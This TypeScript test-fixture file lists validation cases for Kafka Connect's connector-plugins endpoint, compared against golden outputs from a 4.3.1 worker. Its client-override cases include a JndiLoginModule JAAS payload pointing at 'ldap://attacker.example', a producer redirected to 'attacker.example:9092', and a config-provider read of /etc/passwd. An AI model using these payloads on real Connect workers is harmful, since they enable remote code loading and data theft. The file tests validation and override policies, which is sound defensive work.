/** One question to `/connector-plugins`, whose answer by the JVM worker 4.3.1 is kept in golden/validate. */
export interface ValidateCase {
  readonly name: string
  /** Properties of the worker beside the usual ones. */
  readonly worker?: Readonly<Record<string, string>>
  readonly plugin: string
  /** What to validate; without it the question is for the plugin's keys. */
  readonly config?: Readonly<Record<string, string | null>>
}

const source = (more: Record<string, string | null> = {}): Record<string, string | null> => ({
  name: 'lines',
  'connector.class': 'org.apache.kafka.connect.file.FileStreamSourceConnector',
  topic: 'lines',
  file: '/tmp/lines.txt',
  ...more
})
const sink = (more: Record<string, string | null> = {}): Record<string, string | null> => ({
  name: 'lines-out',
  'connector.class': 'org.apache.kafka.connect.file.FileStreamSinkConnector',
  topics: 'lines',
  file: '/tmp/lines.out',
  ...more
})
const ofSource = (
  name: string,
  more: Record<string, string | null>,
  worker?: Record<string, string>
): ValidateCase => ({
  name: `source-${name}`,
  plugin: 'FileStreamSource',
  config: source(more),
  ...(worker === undefined ? {} : { worker })
})
const ofSink = (
  name: string,
  more: Record<string, string | null>,
  worker?: Record<string, string>
): ValidateCase => ({
  name: `sink-${name}`,
  plugin: 'FileStreamSink',
  config: sink(more),
  ...(worker === undefined ? {} : { worker })
})

const INSERT = 'org.apache.kafka.connect.transforms.InsertField$Value'
const TOMBSTONE = 'org.apache.kafka.connect.transforms.predicates.RecordIsTombstone'
const MATCHES = 'org.apache.kafka.connect.transforms.predicates.TopicNameMatches'
const JSON_CONVERTER = 'org.apache.kafka.connect.json.JsonConverter'
const OVERRIDES = {
  'producer.override.linger.ms': '5',
  'producer.override.sasl.jaas.config':
    'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://attacker.example";',
  'producer.override.bootstrap.servers': 'attacker.example:9092',
  'consumer.override.max.poll.records': '7',
  'admin.override.security.protocol': 'SASL_SSL'
}

export const validateCases: readonly ValidateCase[] = [
  { name: 'keys-source', plugin: 'FileStreamSource' },
  { name: 'keys-sink', plugin: 'org.apache.kafka.connect.file.FileStreamSinkConnector' },
  { name: 'keys-json-converter', plugin: JSON_CONVERTER },
  { name: 'keys-string-converter', plugin: 'StringConverter' },
  { name: 'keys-header-converter', plugin: 'SimpleHeaderConverter' },
  { name: 'keys-transformation', plugin: INSERT },
  { name: 'keys-predicate', plugin: 'RecordIsTombstone' },
  { name: 'keys-unknown', plugin: 'Nope' },

  ofSource('good', {}),
  ofSource('alias', { 'connector.class': 'FileStreamSource' }),
  ofSource('simple-name', { 'connector.class': 'FileStreamSourceConnector' }),
  {
    name: 'source-only-class',
    plugin: 'FileStreamSource',
    config: { 'connector.class': 'FileStreamSource' }
  },
  { name: 'source-no-class', plugin: 'FileStreamSource', config: { name: 'x' } },
  { name: 'source-empty', plugin: 'FileStreamSource', config: {} },
  {
    name: 'source-class-empty',
    plugin: 'FileStreamSource',
    config: source({ 'connector.class': '' })
  },
  { name: 'source-class-other', plugin: 'FileStreamSink', config: source() },
  { name: 'source-class-unknown', plugin: 'Nope', config: source({ 'connector.class': 'Nope' }) },
  { name: 'source-class-path', plugin: '..x', config: source({ 'connector.class': '../../..x' }) },
  ofSource('class-null', { 'connector.class': null }),
  ofSource('name-empty', { name: '' }),
  ofSource('name-blank', { name: '   ' }),
  ofSource('name-control', { name: 'a\u0000b\nc' }),
  ofSource('name-null', { name: null }),
  ofSource('unknown-keys', { 'no.such.key': 'x', zebra: 'y', ['__proto__']: 'z' }),
  ofSource('nulls', { topic: null, 'tasks.max': null, 'no.such.key': null, transforms: null }),
  ofSource('numbers', {
    'tasks.max': '0',
    'batch.size': '2.0',
    'errors.retry.timeout': '9223372036854775808'
  }),
  ofSource('numbers-2', {
    'tasks.max': '1000000000',
    'batch.size': '٣',
    'errors.retry.timeout': '9223372036854775807'
  }),
  ofSource('numbers-3', {
    'tasks.max': '-1',
    'batch.size': '',
    'errors.retry.delay.max.ms': ' 5 '
  }),
  ofSource('numbers-4', {
    'tasks.max': 'abc',
    'errors.retry.timeout': 'x',
    'transaction.boundary.interval.ms': 'x'
  }),
  ofSource('name-missing-words', {
    name: null,
    'errors.tolerance': '',
    'offsets.storage.topic': null
  }),
  ofSource('transform-bad-boolean', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.replace.null.with.default': 'maybe',
    'transforms.a.negate': 'x',
    'transforms.a.predicate': 'p'
  }),
  ofSource('transform-null-setting', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.static.field': null
  }),
  ofSource('predicate-version', {
    predicates: 'p',
    'predicates.p.type': TOMBSTONE,
    'predicates.p.plugin.version': '[1,2)'
  }),
  ofSource('overrides-unknown', { 'producer.override.nonsense': 'y' }),
  ofSource('overrides-null', { 'producer.override.linger.ms': null }),
  ofSource('overrides-out-of-range', { 'producer.override.batch.size': '-5' }),
  ofSource('overrides-topic-creation', {
    'topic.creation.default.partitions': '1',
    'topic.creation.default.replication.factor': '1',
    'admin.override.retries': '1',
    'admin.override.ssl.key.password': 'x',
    'consumer.override.max.poll.records': '1'
  }),
  ofSource('version-newer', { 'connector.plugin.version': '(4.3.1,)' }),
  ofSource('version-odd', { 'connector.plugin.version': '[x' }),
  ofSource('version-empty', { 'connector.plugin.version': '' }),
  ofSource('class-blank', { 'connector.class': ' FileStreamSource ' }),
  ofSource('booleans', {
    'tasks.max.enforce': 'yes',
    'errors.log.enable': 'TRUE',
    'errors.log.include.messages': ''
  }),
  ofSource('words', {
    'errors.tolerance': 'some',
    'config.action.reload': 'RESTART',
    'exactly.once.support': 'REQUIRED?',
    'transaction.boundary': 'INTERVAL'
  }),
  ofSource('boundary-interval', {
    'transaction.boundary': 'interval',
    'transaction.boundary.interval.ms': '-1',
    'offsets.storage.topic': ''
  }),
  ofSource('offsets-topic', {
    'offsets.storage.topic': 'own-offsets',
    'consumer.override.max.poll.records': '5',
    'admin.override.retries': '1'
  }),
  ofSource('creation-groups', {
    'topic.creation.groups': 'a,b',
    'topic.creation.default.partitions': '0',
    'topic.creation.default.replication.factor': 'x',
    'topic.creation.a.include': '('
  }),
  ofSource('creation-groups-repeated', { 'topic.creation.groups': 'a,a' }),
  ofSource('creation-groups-default', { 'topic.creation.groups': 'default' }),
  ofSource('eos-required', { 'exactly.once.support': 'required' }),
  ofSource('boundary-connector', { 'transaction.boundary': 'connector' }),
  ofSource(
    'eos-required-enabled',
    { 'exactly.once.support': 'required' },
    { 'exactly.once.source.support': 'enabled' }
  ),
  ofSource(
    'boundary-connector-enabled',
    { 'transaction.boundary': 'connector' },
    { 'exactly.once.source.support': 'enabled' }
  ),
  ofSource(
    'eos-consumer-override',
    { 'consumer.override.max.poll.records': '5', 'admin.override.retries': '1' },
    { 'exactly.once.source.support': 'enabled' }
  ),
  ofSource('version', { 'connector.plugin.version': '4.3.1' }),
  ofSource('version-wrong', { 'connector.plugin.version': '1.0' }),
  ofSource('version-range', { 'connector.plugin.version': '[4,)' }),
  ofSource('version-latest', { 'connector.plugin.version': 'latest' }),
  ofSource('version-snapshot', { 'connector.plugin.version': '[4.3.1-SNAPSHOT,4.3.1]' }),
  ofSource('converters', {
    'key.converter': 'org.apache.kafka.connect.storage.StringConverter',
    'value.converter': JSON_CONVERTER,
    'value.converter.schemas.enable': 'false',
    'header.converter': 'org.apache.kafka.connect.storage.SimpleHeaderConverter'
  }),
  ofSource('converter-alias', {
    'value.converter': 'JsonConverter',
    'key.converter': 'StringConverter'
  }),
  ofSource('converter-short-alias', { 'value.converter': 'Json' }),
  ofSource('converter-bad-values', {
    'value.converter': JSON_CONVERTER,
    'value.converter.schemas.enable': 'maybe',
    'value.converter.decimal.format': 'x',
    'value.converter.schemas.cache.size': '-1',
    'value.converter.unknown': 'x'
  }),
  ofSource('converter-unknown', {
    'key.converter': 'Nope',
    'value.converter': 'io.example.NopeConverter',
    'header.converter': 'No'
  }),
  ofSource('converter-wrong-kind', {
    'key.converter': TOMBSTONE,
    'value.converter': 'org.apache.kafka.connect.storage.SimpleHeaderConverter'
  }),
  ofSource('converter-empty', { 'key.converter': '' }),
  ofSource('converter-null', { 'key.converter': null }),
  ofSource('converter-version', {
    'key.converter': JSON_CONVERTER,
    'key.converter.plugin.version': '4.3.1'
  }),
  ofSource('converter-version-wrong', {
    'key.converter': JSON_CONVERTER,
    'key.converter.plugin.version': '1.0'
  }),
  ofSource('converter-version-latest', {
    'key.converter': JSON_CONVERTER,
    'key.converter.plugin.version': 'latest'
  }),
  ofSource('converter-version-of-the-worker', {
    'key.converter.plugin.version': '9',
    'header.converter.plugin.version': '9'
  }),
  ofSource('converter-settings-only', { 'value.converter.schemas.enable': 'maybe' }),
  ofSource('transforms', {
    transforms: 'a,b',
    'transforms.a.type': INSERT,
    'transforms.a.static.field': 'f',
    'transforms.a.static.value': 'v',
    'transforms.b.type': 'org.apache.kafka.connect.transforms.RegexRouter',
    'transforms.b.regex': '(.*)',
    'transforms.b.replacement': 'x-$1'
  }),
  ofSource('transform-missing-keys', {
    transforms: 'b',
    'transforms.b.type': 'org.apache.kafka.connect.transforms.RegexRouter'
  }),
  ofSource('transform-bad-value', {
    transforms: 'c',
    'transforms.c.type': 'org.apache.kafka.connect.transforms.ReplaceField$Value',
    'transforms.c.exclude': 'a',
    'transforms.c.zebra': '1'
  }),
  ofSource('transform-no-type', { transforms: 'a' }),
  ofSource('transform-unknown-type', { transforms: 'a', 'transforms.a.type': 'Nope' }),
  ofSource('transform-wrong-kind', { transforms: 'a', 'transforms.a.type': JSON_CONVERTER }),
  ofSource('transform-empty-type', { transforms: 'a', 'transforms.a.type': '' }),
  ofSource('transform-alias-name', {
    transforms: 'a',
    'transforms.a.type': 'RegexRouter',
    'transforms.a.regex': 'x',
    'transforms.a.replacement': 'y'
  }),
  ofSource('transform-twice', { transforms: 'a,a', 'transforms.a.type': INSERT }),
  ofSource('transform-blank-alias', { transforms: 'a,,b' }),
  ofSource('transform-unlisted', { 'transforms.a.type': INSERT }),
  ofSource('transform-version', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.plugin.version': '1.0'
  }),
  ofSource('transform-version-latest', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.plugin.version': 'latest'
  }),
  ...['[x', '[5.0,4.0]', '[4,5],[1,2]'].map((range, at) =>
    ofSource(`transform-version-broken-${at + 1}`, {
      transforms: 'a',
      'transforms.a.type': INSERT,
      'transforms.a.plugin.version': range
    })
  ),
  ofSource('transform-neither-key-nor-value', {
    transforms: 'a',
    'transforms.a.type': 'org.apache.kafka.connect.transforms.Cast',
    'transforms.a.spec': 'int8'
  }),
  ofSource('transform-cast', {
    transforms: 'a',
    'transforms.a.type': 'org.apache.kafka.connect.transforms.Cast$Value',
    'transforms.a.spec': 'x'
  }),
  ofSource('predicates', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.predicate': 'p',
    'transforms.a.negate': 'true',
    predicates: 'p,q',
    'predicates.p.type': TOMBSTONE,
    'predicates.q.type': MATCHES,
    'predicates.q.pattern': 'x.*'
  }),
  ofSource('predicate-unlisted', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.predicate': 'zz',
    predicates: 'p',
    'predicates.p.type': TOMBSTONE
  }),
  ofSource('predicate-none-listed', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.predicate': 'zz'
  }),
  ofSource('predicate-negate-alone', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.negate': 'true'
  }),
  ofSource('predicate-negate-false', {
    transforms: 'a',
    'transforms.a.type': INSERT,
    'transforms.a.negate': 'false'
  }),
  ofSource('predicate-bad', {
    predicates: 'p,q,r',
    'predicates.p.type': 'Nope',
    'predicates.q.type': MATCHES,
    'predicates.q.pattern': '('
  }),
  ofSource('predicate-twice', { predicates: 'p,p', 'predicates.p.type': TOMBSTONE }),
  ofSource('overrides', OVERRIDES),
  ofSource('overrides-none', OVERRIDES, { 'connector.client.config.override.policy': 'None' }),
  ofSource('overrides-principal', OVERRIDES, {
    'connector.client.config.override.policy': 'Principal'
  }),
  ofSource('overrides-allowlist', OVERRIDES, {
    'connector.client.config.override.policy': 'Allowlist',
    'connector.client.config.override.allowlist': 'linger.ms, security.protocol'
  }),
  ofSource('overrides-bad-values', {
    'producer.override.linger.ms': 'x',
    'producer.override.nonsense': 'y',
    'producer.override.acks': '9',
    'producer.override.batch.size': '-5'
  }),
  ofSource(
    'providers',
    {
      topic: '${env:GOLDEN_WORD}',
      file: '${file:/etc/passwd:root}',
      'no.such.key': '${nope:x}',
      'batch.size': '${env:GOLDEN_WORD}'
    },
    {
      'config.providers': 'env',
      'config.providers.env.class': 'org.apache.kafka.common.config.provider.EnvVarConfigProvider'
    }
  ),

  ofSink('good', {}),
  ofSink('alias', { 'connector.class': 'FileStreamSink' }),
  ofSink('regex', { topics: null, 'topics.regex': 'li.*' }),
  {
    name: 'sink-regex-only',
    plugin: 'FileStreamSink',
    config: { name: 's', 'connector.class': 'FileStreamSink', 'topics.regex': 'li.*' }
  },
  {
    name: 'sink-no-topics',
    plugin: 'FileStreamSink',
    config: { name: 's', 'connector.class': 'FileStreamSink' }
  },
  ofSink('both', { 'topics.regex': 'li.*' }),
  ofSink('regex-broken', { topics: '', 'topics.regex': '(' }),
  ofSink('regex-possessive', { topics: '', 'topics.regex': '(?i)a*+\\Qx.y\\E\\p{Alpha}' }),
  ofSink('topics-empty', { topics: '' }),
  ofSink('topics-blank-entry', { topics: 'a,,b' }),
  ofSink('topics-repeated', { topics: 'a,a' }),
  ofSink('topics-null', { topics: null }),
  ofSink('dlq', {
    'errors.deadletterqueue.topic.name': 'dlq',
    'producer.override.linger.ms': '5',
    'admin.override.retries': '1',
    'consumer.override.max.poll.records': '5'
  }),
  ofSink('dlq-in-topics', { topics: 'a,dlq', 'errors.deadletterqueue.topic.name': 'dlq' }),
  {
    name: 'sink-dlq-in-regex',
    plugin: 'FileStreamSink',
    config: {
      name: 's',
      'connector.class': 'FileStreamSink',
      'topics.regex': 'd.*',
      'errors.deadletterqueue.topic.name': 'dlq'
    }
  },
  {
    name: 'sink-dlq-partly-in-regex',
    plugin: 'FileStreamSink',
    config: {
      name: 's',
      'connector.class': 'FileStreamSink',
      'topics.regex': 'd',
      'errors.deadletterqueue.topic.name': 'dlq'
    }
  },
  ofSink('dlq-bad', {
    'errors.deadletterqueue.topic.name': 'dlq',
    'errors.deadletterqueue.topic.replication.factor': '40000',
    'errors.deadletterqueue.context.headers.enable': 'x'
  }),
  ofSink('overrides', {
    'consumer.override.max.poll.records': '5',
    'producer.override.linger.ms': '5',
    'admin.override.retries': '1'
  }),
  ofSink(
    'overrides-none',
    { 'consumer.override.max.poll.records': '5', 'consumer.override.group.id': 'g' },
    { 'connector.client.config.override.policy': 'None' }
  ),
  ofSink('group', { 'consumer.override.group.id': 'free' }),
  ofSink('group-of-workers', { 'consumer.override.group.id': 'validate-golden' }),
  ofSink('name-makes-group-of-workers', { name: 'cluster' }, { 'group.id': 'connect-cluster' }),
  ofSink('source-keys', { 'exactly.once.support': 'required', 'topic.creation.groups': 'a' }),
  ofSink('nulls', { file: null, 'errors.tolerance': null }),
  ofSink('transforms', {
    transforms: 'a',
    'transforms.a.type': 'org.apache.kafka.connect.transforms.InsertField$Key'
  })
]
